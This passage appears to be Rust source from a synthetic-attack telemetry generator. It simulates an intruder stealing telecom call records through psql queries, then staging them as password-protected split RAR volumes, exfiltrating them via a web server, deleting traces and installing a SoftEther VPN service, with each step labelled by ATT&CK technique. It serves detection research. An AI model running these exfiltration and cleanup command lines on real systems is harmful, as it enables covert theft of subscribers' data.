            ccmd = cm.spawn_as(
                sink,
                &mut c.dice,
                t + 2 * SECOND,
                &prv,
                exe("C:\\Windows\\System32\\cmd.exe", "Cmd.Exe"),
                format!("cmd /c mkdir {dir}"),
                w,
            );
            c.label(sink, 4, "T1570", "tools copied to the collection host");
            for f in [
                &rar_path,
                &format!("{dir}\\psql.exe"),
                &format!("{dir}\\libpq.dll"),
            ] {
                cm.file(sink, t + 5 * SECOND, &system4, f);
            }
        }
        let psql_path = if host == jump_h {
            "C:\\Program Files\\PostgreSQL\\15\\bin\\psql.exe".to_string()
        } else {
            format!("{dir}\\psql.exe")
        };
        c.tool(&psql_path);
        let db_user = c.kit.db_user.clone();
        c.truth.db_account = db_user.clone();
        let database = world.profile.db.database;
        let chunks: Vec<&[String]> = targets.chunks(targets.len().div_ceil(2).max(1)).collect();
        let night0 =
            next_local(t + 2 * HOUR, 2, c.estate.utc_offset_min) + c.dice.range(0, 40) * MINUTE;
        for (n, chunk) in chunks.iter().enumerate() {
            let tt = night0 + n as i64 * DAY + c.dice.range(0, 30) * MINUTE;
            let out = format!("{dir}\\r{}.csv", n + 1);
            c.label(
                sink,
                7,
                "T1005",
                "database client run on a host that is no DB or application server",
            );
            let psql = cm.spawn(sink, &mut c.dice, tt, &ccmd, Exe { path: &psql_path, pe: "psql.exe", build: 0 }, format!("\"{psql_path}\" -h {db_ip} -U {db_user} -d {database} -f {dir}\\q{}.sql -o {out}", n + 1));
            let port = 52_000 + c.dice.below(9_000) as u16;
            cm.connect(
                sink,
                tt + 200_000,
                &psql,
                "tcp",
                true,
                (&chost_ip, port),
                (&db_ip, 5432),
            );
            cm.file(sink, tt + 40 * SECOND, &psql, &out);
            c.flow(
                sink,
                tt,
                (&chost_ip, port),
                (&db_ip, 5432),
                "postgresql",
                55.0,
                6_000,
                2_400_000,
            );
            self.db_session(c, tt + 300_000, &db_user, &chost_ip, port, chunk, n == 0);
        }
        t = night0 + (chunks.len() as i64 - 1) * DAY + 2 * HOUR;

        // Stage 8: encrypted split archives in the Recycle Bin.
        c.label(
            sink,
            8,
            "T1560.001",
            "password-protected split RAR of the query results",
        );
        let bin = format!("C:\\$Recycle.Bin\\{}-{}", org.sid, 1100 + c.kit.wave as u32);
        let rar = cm.spawn(
            sink,
            &mut c.dice,
            t,
            &ccmd,
            Exe {
                path: &rar_path,
                pe: "Rar.exe",
                build: c.kit.build,
            },
            format!(
                "{rar_path} a -r -m5 -hpTr0ub4dor{w} -v50m \"{bin}\\cdr.rar\" {dir}\\r*.csv",
                w = c.kit.wave
            ),
        );
        let parts = 3 + c.dice.index(4);
        c.label(
            sink,
            8,
            "T1074.001",
            "archive volumes staged in the Recycle Bin",
        );
        for p in 1..=parts {
            cm.file(
                sink,
                t + (10 * p as i64) * SECOND,
                &rar,
                &format!("{bin}\\cdr.part{p:02}.rar"),
            );
        }
        cm.spawn(
            sink,
            &mut c.dice,
            t + 2 * MINUTE,
            &ccmd,
            exe("C:\\Windows\\System32\\cmd.exe", "Cmd.Exe"),
            format!("cmd /c del /q {dir}\\r*.csv {dir}\\q*.sql"),
        );
        t += 10 * MINUTE;
        let entry_ip = c.ip(entry);
        c.label(
            sink,
            8,
            "T1074.001",
            "archive volumes moved to the web server",
        );
        cm.spawn(
            sink,
            &mut c.dice,
            t,
            &ccmd,
            exe("C:\\Windows\\System32\\cmd.exe", "Cmd.Exe"),
            format!("cmd /c copy \"{bin}\\cdr.part*.rar\" \\\\{entry_ip}\\{dest}\\"),
        );
        for p in 1..=parts {
            let local = dest.replacen("c$", "C:", 1);
            web.file(
                sink,
                t + (5 * p as i64) * SECOND,
                &system4,
                &format!("{local}\\cdr.part{p:02}.rar"),
            );
        }
        c.flow(
            sink,
            t,
            (&chost_ip, 50_620),
            (&entry_ip, 445),
            "smb",
            40.0,
            50_000_000 * parts as u64,
            40_000,
        );

        // Stage 9: the volumes leave through the web server.
        t += c.dice.range(20, 120) * MINUTE;
        c.label(
            sink,
            9,
            "T1041",
            "archive volumes downloaded from the web server",
        );
        let logs = c.estate.web[entry].is_some();
        for p in 1..=parts {
            let tt = t + (p as i64) * 3 * MINUTE;
            let size = if p == parts {
                17_000_000 + c.dice.below(30_000_000)
            } else {
                52_428_800
            };
            if logs {
                let stem = download_uri(p);
                let req = Request {
                    method: "GET",
                    stem: &stem,
                    query: "",
                    port: 443,
                    user: "",
                    client: &attacker,
                    agent: "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
                    referer: "",
                    status: 200,
                    sc_bytes: size,
                    cs_bytes: 310,
                    time_taken_ms: 60_000 + c.dice.below(90_000),
                };
                web::log(sink, world, &c.estate.web, offset, entry, tt, &req);
            } else {
                web.connect(
                    sink,
                    tt,
                    &parent,
                    "tcp",
                    false,
                    (&entry_ip, 8080),
                    (&attacker, 50_000 + p as u16),
                );
            }
            let front = world
                .profile
                .balancer
                .map_or(entry_ip.clone(), String::from);
            c.flow(
                sink,
                tt,
                (&attacker, 50_000 + p as u16),
                (&front, if logs { 443 } else { 8080 }),
                if logs { "ssl" } else { "http" },
                95.0,
                400,
                size,
            );
        }
        t += (parts as i64 + 1) * 3 * MINUTE;
        let cleanup = format!("del /q {}\\cdr.part*.rar", dest.replacen("c$", "C:", 1));
        shell_cmd(
            c,
            sink,
            t,
            9,
            "T1070.004",
            "archive volumes deleted from the web root",
            exe("C:\\Windows\\System32\\cmd.exe", "Cmd.Exe"),
            &cleanup,
        );

        // Stage 10: a SoftEther VPN client on the file server, and the actor's own account
        // logging in over it later.
        t += c.dice.range(2, 6) * HOUR;
        c.touch(fs_h);
        let fs = c.m(fs_h);
        let fs_ip = c.ip(fs_h);
        let vpn = "C:\\ProgramData\\SoftEther\\vpnclient.exe".to_string();
        c.tool(&vpn);
        c.label(
            sink,
            10,
            "T1133",
            "SoftEther VPN client installed as a service",
        );
        fs.file(sink, t, &system4, &vpn);
        fs.file(
            sink,
            t + SECOND,
            &system4,
            "C:\\ProgramData\\SoftEther\\vpn_client.config",
        );
        let da_who = Who::user(org.netbios, &da, &da_sid, 0);
        fs.service(
            sink,
            t + 10 * SECOND,
            &da_who,
            "SEVPNCLIENT",
            &format!("\"{vpn}\" /service"),
        );
        let fs_services = bg.services(fs_h).clone();
        let vpnp = fs.spawn(
            sink,
            &mut c.dice,
            t + 12 * SECOND,
            &fs_services,
            Exe {
                path: &vpn,
                pe: "vpnclient.exe",
                build: 0,
            },
            format!("\"{vpn}\" /service"),
        );
        let vpn_host = format!("vpn{}.softether.net", 100_000 + c.dice.below(900_000));
        fs.dns(sink, t + 13 * SECOND, &vpnp, &vpn_host, "198.51.100.99");
        fs.connect(
            sink,
            t + 14 * SECOND,
            &vpnp,
            "tcp",
            true,
            (&fs_ip, 50_555),
            ("198.51.100.99", 5555),
        );
        c.flow(
            sink,
            t + 14 * SECOND,
            (&fs_ip, 50_555),
            ("198.51.100.99", 5555),
            "ssl",
            7200.0,
            9_000_000,
            14_000_000,
        );
        let back = t + c.dice.range(2, 4) * DAY + c.dice.range(0, 6) * HOUR;
        c.label(
            sink,
            10,
            "T1078",
            "the intruder's domain admin logs on over the VPN",
        );
        let dc = c.m(dc_h);
        dc.kerberos_tgt(sink, back - SECOND, &da_who, "192.168.30.12");
        let l = jump.logon(
            sink,
            &mut c.dice,
            back,
            &da_who,
            10,
            false,
            ("192.168.30.12", "DESKTOP-7H2K4Q"),
            true,
        );
        jump.logoff(
            sink,
            back + c.dice.range(10, 50) * MINUTE,
            &Who::user(org.netbios, &da, &da_sid, l),
            l,
            10,
        );
        sink.set_label(None);
        back + HOUR
    }

    /// One night's psql session: a look at who the targets are (where the estate has a
    /// subscriber table and the intruder that habit), the targeted reads over two years of
    /// history, then an export.
    #[allow(clippy::too_many_arguments)]
    fn db_session(
        &mut self,
        c: &mut Ctx<'_>,
        t: i64,
        user: &str,
        host: &str,
        port: u16,
        msisdns: &[String],
        copy: bool,
    ) {
        let world = c.world;
        let habits = world.profile.habits;
        let schema = world.profile.db.schema;
        let sql = Sql(&schema);
        let session = self.sessions.len();
        self.sessions.push(Session::new(
            20_000 + c.dice.below(30_000) as u32,
            Peer {
                user,
                db: world.profile.db.database,
                app: "psql",
                host,
                port,
            },
            t,
            c.estate.log,
        ));
        let from = t - 730 * DAY;
        let from_s = clock::date(from);
        let until_s = clock::date(t + DAY);
        // As the intruder writes them: international digits, or the national `0…` form.
        let written: Vec<String> = msisdns
            .iter()
            .map(|m| {
                if c.kit.national {
                    format!("0{}", &m[crate::ids::COUNTRY_CODE.len()..])
                } else {
                    m.clone()
                }
            })
            .collect();
        let mut tt = t + 5 * SECOND;
        let label = Label {
            wave: c.kit.wave,
            stage: 7,
            technique: "T1005",
            what: "targeted CDR query for a few subscribers over two years",
        };
        self.db_steps.push(DbStep {
            time: t,
            session,
            action: DbAction::Connect,
            label: label.clone(),
        });
        if habits.subscriber_recon {
            if let Some((text, table)) = sql.recon(&written) {
                self.db_steps.push(DbStep {
                    time: tt,
                    session,
                    action: DbAction::Plain(Statement::select(
                        table,
                        text,
                        None,
                        msisdns.len() as u64,
                    )),
                    label: Label {
                        technique: "T1213",
                        what: "targets looked up in the subscriber table",
                        ..label.clone()
                    },
                });
                tt += c.dice.range(20, 90) * SECOND;
            }
        }
        let match_on = match habits.theft {
            TheftStyle::Parties => MatchOn::Parties,
            _ => MatchOn::Served,
        };
        let mut tables = vec![schema.voice];
        if schema.sms != schema.voice {
            tables.push(schema.sms);
        }
        for table in &tables {
            let text = sql.theft(habits.theft, table, &written, &from_s, &until_s, false);
            self.push_query(
                c.kit.wave,
                tt,
                session,
                Statement::select(table, text, None, 0),
                msisdns,
                table,
                from,
                match_on,
                label.clone(),
            );
            tt += c.dice.range(20, 200) * SECOND;
        }
        if copy {
            let text = sql.theft(
                habits.theft,
                schema.voice,
                &written,
                &from_s,
                &until_s,
                true,
            );
            self.push_query(
                c.kit.wave,
                tt,
                session,
                Statement::select(schema.voice, text, None, 0),
                msisdns,
                schema.voice,
                from,
                match_on,
                Label {
                    what: "targeted CDR export",
                    ..label.clone()
                },
            );
            tt += 30 * SECOND;
        }
        self.db_steps.push(DbStep {
            time: tt,
            session,
            action: DbAction::Disconnect,
            label,
        });
    }

    #[allow(clippy::too_many_arguments)]
    fn push_query(
        &mut self,
        wave: u8,
        t: i64,
        session: usize,
        statement: Statement,
        msisdns: &[String],
        table: &'static str,
        from: i64,
        match_on: MatchOn,
        label: Label,
    ) {
        self.queries.push(TheftQuery {
            wave,
            msisdns: msisdns.to_vec(),
            tables: vec![table],
            from,
            executed: t,
            match_on,
        });
        let query = self.queries.len() - 1;
        self.db_steps.push(DbStep {
            time: t,
            session,
            action: DbAction::Run(statement, query),
            label,
        });
    }

    /// Writes the campaign's database statements older than `until`, with the rows the
    /// generated CDRs gave each (`rows_of`).
    pub fn db_until(
        &mut self,
        sink: &mut Sink,
        db: crate::sink::StreamId,
        until: i64,
        rows_of: impl Fn(usize) -> u64,
    ) {
        if self.next_step == 0 {
            // Waves were planned one after another; their statements may interleave.
            self.db_steps.sort_by_key(|s| s.time);
        }
        while let Some(step) = self.db_steps.get(self.next_step).filter(|s| s.time < until) {
            self.next_step += 1;
            sink.set_label(Some(step.label.clone()));
            let session = &mut self.sessions[step.session];
            match &step.action {
                DbAction::Connect => session.connect(sink, db),
                DbAction::Disconnect => session.disconnect(sink, db, step.time),
                DbAction::Run(statement, query) => {
                    let mut st = statement.clone();
                    st.rows = rows_of(*query);
                    session.run(sink, db, step.time, &st);
                }
                DbAction::Plain(statement) => session.run(sink, db, step.time, statement),
            }
        }
        sink.set_label(None);
    }
}

/// The next moment at or after `t` when it is `hour` o'clock local time.
fn next_local(t: i64, hour: i64, offset_min: i32) -> i64 {
    let off = i64::from(offset_min) * MINUTE;
    let local = t + off;
    let mut target = local - local.rem_euclid(DAY) + hour * HOUR;
    if target < local {
        target += DAY;
    }
    target - off
}

/// PowerShell's `-enc` form: UTF-16LE, base64.
fn utf16_base64(s: &str) -> String {
    const B64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = s.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = (u32::from(chunk[0]) << 16)
            | (u32::from(*chunk.get(1).unwrap_or(&0)) << 8)
            | u32::from(*chunk.get(2).unwrap_or(&0));
        for k in 0..4 {
            if k <= chunk.len() {
                out.push(B64[(n >> (18 - 6 * k) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn powershell_encoding_is_utf16_base64() {
        // "ab" in UTF-16LE is 61 00 62 00.
        assert_eq!(utf16_base64("ab"), "YQBiAA==");
    }
}
